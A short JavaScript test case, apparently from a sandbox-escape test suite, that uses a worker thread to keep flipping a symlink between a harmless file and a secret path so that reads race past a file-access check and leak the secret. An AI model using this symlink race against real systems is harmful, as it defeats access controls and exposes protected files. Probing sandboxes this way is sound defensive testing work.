// Tries: the same race with another thread that changes the link.
// Escape: the secret comes out.
const fs = require('node:fs');
const { room, secret } = target;
const code = `
  const fs = require('node:fs');
  const { room, secret } = require('node:worker_threads').workerData;
  for (;;) {
    for (const to of [room + '/mine', secret]) {
      try { fs.unlinkSync(room + '/flip'); } catch {}
      try { fs.symlinkSync(to, room + '/flip'); } catch {}
    }
  }`;
attempt('a thread that swaps', () => {
  fs.writeFileSync(`${room}/mine`, 'mine');
  const { Worker } = require('node:worker_threads');
  const worker = new Worker(code, { eval: true, workerData: { room, secret } });
  worker.on('error', () => {});
  const end = Date.now() + 500;
  const found = new Set();
  return new Promise((resolve) => {
    const look = () => {
      for (let i = 0; i < 200; i++) {
        try {
          found.add(fs.readFileSync(`${room}/flip`, 'utf8'));
        } catch {
          // It was the other one.
        }
      }
      if (Date.now() < end) return setImmediate(look);
      worker.terminate().finally(() => resolve([...found].join()));
    };
    setTimeout(look, 50);
  });
});
